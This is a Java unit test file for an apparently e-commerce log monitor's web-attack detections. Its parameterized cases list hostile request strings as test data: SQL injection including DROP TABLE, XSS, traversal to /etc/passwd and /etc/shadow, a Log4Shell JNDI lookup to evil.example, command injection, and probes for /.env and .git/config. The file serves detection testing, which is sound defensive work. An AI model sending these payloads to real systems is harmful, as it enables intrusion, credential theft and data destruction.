package io.mallwatch.monitors.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WebDetectionsTest {

  private final Watched watched = new Watched();

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '`',
      value = {
        "WEB-1,/api/products?q=' OR 1=1 --",
        "WEB-1,/api/products?q=%27%20or%20%271%27%3D%271",
        "WEB-1,/api/products?q=1+UNION+ALL+SELECT+username%2Cpassword+FROM+users",
        "WEB-1,/p?id=1;%20DROP%20TABLE%20users",
        "WEB-1,/p?id=1%20AND%20SLEEP(5)",
        "WEB-1,/p?id=1/**/union/**/select/**/1",
        "WEB-1,/p?id=%2527%2520or%25201%253D1",
        "WEB-2,/s?q=<script>alert(1)</script>",
        "WEB-2,/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "WEB-2,/s?next=javascript:alert(1)",
        "WEB-3,/download?file=../../../../etc/passwd",
        "WEB-3,/download?file=..%2f..%2f..%2fetc%2fshadow",
        "WEB-3,/view?page=php://filter/convert.base64-encode/resource=index",
        "WEB-4,/?x=${jndi:ldap://evil.example/a}",
        "WEB-4,/ping?host=127.0.0.1;cat%20/tmp/x",
        "WEB-4,/?name={{7*7}}",
        "WEB-5,/.env",
        "WEB-5,/.git/config",
        "WEB-5,/backup.zip",
        "WEB-5,/actuator/heapdump",
        "WEB-5,/phpmyadmin/index.php"
      })
  void anAttackIsFoundHoweverItIsWritten(String detection, String url) {
    watched.request("203.0.113.9", url, 404);

    assertThat(watched.found()).contains(detection + " info 203.0.113.9");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/products?q=Rock+and+Roll",
        "/api/products?name=O%27Brien",
        "/api/products?sort=price&order=desc&page=2",
        "/api/search?q=%E6%89%8B%E6%9C%BA%20%E5%A3%B3",
        "/union-station/select?size=42",
        "/api/orders?from=2026-11-01T00:00:00%2B08:00",
        "/static/app.min.js?v=1.2.3",
        "/api/search?q=C%2B%2B+or+Java",
        "/api/filter?price=10..20",
        "/help?topic=how+to+drop+off+a+parcel;+update+address",
        "/api/v1/users/42/orders/99",
        "/images/1.2.jpg",
        "/administration-fees.html",
        "/api/products?discount=50%25",
        "/api/search?q=%22red+shoes%22"
      })
  void whatPeopleAskForIsNoAttack(String url) {
    watched.request("10.0.0.7", url, 200);

    assertThat(watched.found()).isEmpty();
  }

  @Test
  void anAttackThatIsAnsweredIsHighAndOneThatIsRepeatedIsAWarning() {
    watched.request("203.0.113.1", "/p?id=1'+or+1=1", 200);
    for (int i = 0; i < 5; i++) {
      watched.request("203.0.113.2", "/p?id=1'+or+1=1", 403);
    }
    assertThat(watched.found())
        .containsExactly("WEB-1 high 203.0.113.1", "WEB-1 warning 203.0.113.2");
  }

  @Test
  void aRequestWhoseBeginAndEndAreLoggedCountsOnce() {
    for (int i = 0; i < 4; i++) {
      for (int line = 0; line < 2; line++) {
        watched.entry(
            io.mallwatch.model.LogEntry.builder(
                    watched.clock.instant(), io.mallwatch.model.LogLevel.INFO, "mall", "request")
                .requestId("r" + i)
                .data("url", "/?q=<script>")
                .data("ip", "203.0.113.2")
                .build());
      }
    }
    assertThat(watched.found()).containsExactly("WEB-2 info 203.0.113.2");
    assertThat(watched.findings.list(_ -> true, 1).getFirst().hits()).isEqualTo(4);
  }

  @Test
  void aScannerIsKnownByItsName() {
    watched.entry(
        "access",
        null,
        "",
        "ip",
        "203.0.113.3",
        "url",
        "/",
        "status",
        200,
        "userAgent",
        "sqlmap/1.7.2#stable (https://sqlmap.org)");
    watched.entry(
        "access",
        null,
        "",
        "ip",
        "10.0.0.1",
        "url",
        "/",
        "status",
        200,
        "userAgent",
        "Mozilla/5.0 (Windows NT 10.0)");

    assertThat(watched.found()).containsExactly("WEB-6 warning 203.0.113.3");
  }

  @Test
  void guessingAddressesIsFoundAndABrokenPictureIsNot() {
    for (int i = 0; i < 250; i++) {
      watched.request(
          "203.0.113.4", "/guess-" + (char) ('a' + i % 26) + (char) ('a' + i / 26), 404);
      watched.request("10.0.0.1", "/favicon.ico", 404);
    }
    assertThat(watched.found()).containsExactly("WEB-7 warning 203.0.113.4");
  }

  @Test
  void sixHundredRequestsAMinuteAreAFloodAndThreeHundredAreNot() {
    for (int i = 0; i < 600; i++) {
      watched.pass(Duration.ofMillis(80)).request("203.0.113.5", "/", 200);
      if (i % 2 == 0) {
        watched.request("10.0.0.1", "/", 200);
      }
    }
    assertThat(watched.found()).containsExactly("WEB-8 high 203.0.113.5");
  }

  @Test
  void walkingThroughNumbersIsFoundAndReadingOnesOwnIsNot() {
    for (int i = 0; i < 25; i++) {
      watched.request("203.0.113.6", "/api/orders/" + (1000 + i), i % 2 == 0 ? 403 : 404);
      watched.request("10.0.0.1", "/api/orders/" + (1000 + i), 200);
      watched.request("10.0.0.2", "/api/orders/7", 403);
    }
    assertThat(watched.found()).containsExactly("ACL-2 high 203.0.113.6");
  }
}
